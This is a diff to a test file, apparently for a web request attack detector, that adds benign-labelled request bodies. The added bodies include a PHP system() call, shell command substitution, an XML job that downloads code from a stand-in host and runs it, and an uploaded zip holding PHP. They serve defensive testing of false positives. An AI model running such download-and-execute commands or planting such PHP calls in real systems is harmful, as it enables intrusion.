@@ -196,6 +196,28 @@ describe('ordinary bodies are no attacks', () => {
     ],
     ['protocol buffers', { body: '\x0a\x12\x08\x96\x01`id`;ls -la\x00\x01', type: 'application/x-protobuf' }],
     [
+      'a post about PHP',
+      { body: `content=${encodeURIComponent("<?php\n$x = $_GET['a'];\nsystem('ls');\n?>\nUse it with care.")}` },
+    ],
+    [
+      'a message with code in it',
+      { body: JSON.stringify({ text: "Fix `ls -la`; it's $(date)" }), type: 'application/json' },
+    ],
+    [
+      'a job of a build server',
+      {
+        body: '<?xml version="1.0"?><project><command>cd /srv; curl -o a http://x/a; chmod +x a; ./a</command></project>',
+        type: 'application/xml',
+      },
+    ],
+    [
+      'a packed plug-in',
+      {
+        body: '--b\r\nContent-Disposition: form-data; name="p"; filename="a.zip"\r\n\r\nPK\x03\x04a.php<?php system(\r\n--b--',
+        type: 'multipart/form-data; boundary=b',
+      },
+    ],
+    [
       'statistics',
       {
         body: 'v=1&t=pageview&dl=https%3A%2F%2Fshop.example%2F%3Fq%3Dit%2527s%2520a%2520or%2520b&dt=O%27Brien%20%26%20Sons&ua=Mozilla%2F5.0%20(X11%3B%20Linux)',
